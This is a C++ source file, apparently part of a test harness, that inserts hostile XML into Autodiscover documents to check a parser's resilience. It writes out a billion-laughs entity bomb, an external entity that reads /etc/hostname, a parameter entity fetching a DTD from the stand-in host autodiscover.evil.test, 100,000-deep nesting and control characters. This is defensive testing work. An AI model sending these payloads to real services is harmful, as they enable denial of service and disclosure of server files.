// SPDX-License-Identifier: Apache-2.0

#include "http/hostile_xml.h"

#include <algorithm>
#include <cstddef>
#include <string_view>

#include "history/utf.h"
#include "http/xml_shape.h"

namespace fake {
namespace {

constexpr std::size_t kDepth = 100'000;

// Before the root's start tag, where a DOCTYPE has to be.
std::size_t BeforeRoot(const std::string& text) {
  std::size_t at = text.find('<');
  while (at != std::string::npos && at + 1 < text.size() &&
         (text[at + 1] == '?' || text[at + 1] == '!')) {
    at = text.find('<', at + 1);
  }
  return std::min(at, text.size());
}

// Before the root's end tag.
std::size_t AtTheEnd(const std::string& text) {
  return std::min(text.rfind("</"), text.size());
}

// Ten of the one below, nine times over: 10^9 words.
std::string Bomb() {
  std::string dtd = "<!DOCTYPE Autodiscover [<!ENTITY e0 \"fixture\">";
  for (int level = 1; level <= 9; ++level) {
    dtd += "<!ENTITY e" + std::to_string(level) + " \"";
    for (int i = 0; i < 10; ++i) {
      dtd += "&e" + std::to_string(level - 1) + ";";
    }
    dtd += "\">";
  }
  return dtd + "]>";
}

constexpr std::string_view kExternal =
    "<!DOCTYPE Autodiscover [<!ENTITY e9 SYSTEM \"file:///etc/hostname\">]>";
constexpr std::string_view kParameter =
    "<!DOCTYPE Autodiscover [<!ENTITY % e9 SYSTEM "
    "\"http://autodiscover.evil.test/fixture.dtd\"> %e9;]>";

std::string Repeated(std::string_view text, std::size_t times) {
  std::string all;
  all.reserve(text.size() * times);
  for (std::size_t i = 0; i < times; ++i) {
    all += text;
  }
  return all;
}

void InsertEnd(std::string& text, const std::string& what) {
  text.insert(AtTheEnd(text), what);
}

}  // namespace

std::string MakeHostile(std::string text, const std::vector<Shape>& shape) {
  const bool bomb = Has(shape, Shape::kDtdBomb);
  const bool external = Has(shape, Shape::kExternalEntity);
  if (bomb || external) {
    InsertEnd(text, "<Fixture>&e9;</Fixture>");
  }
  if (Has(shape, Shape::kDeep)) {
    InsertEnd(text, Repeated("<d>", kDepth) + Repeated("</d>", kDepth));
  }
  if (Has(shape, Shape::kControlCharacters)) {
    InsertEnd(text, "<Fixture>\x01\x08\x1b</Fixture>");
  }
  if (bomb) {
    text.insert(BeforeRoot(text), Bomb());
  } else if (external) {
    text.insert(BeforeRoot(text), kExternal);
  } else if (Has(shape, Shape::kParameterEntity)) {
    text.insert(BeforeRoot(text), kParameter);
  }
  return text;
}

std::string ToUtf16Text(const std::string& text) {
  // A byte order mark of UTF-8 would be a character now.
  constexpr std::string_view kMark = "\xEF\xBB\xBF";
  const auto points =
      FromUtf8(text.starts_with(kMark) ? text.substr(kMark.size()) : text);
  return "\xff\xfe" +
         ToUtf16(points.value_or(std::u32string()), ByteOrder::kLittle);
}

}  // namespace fake
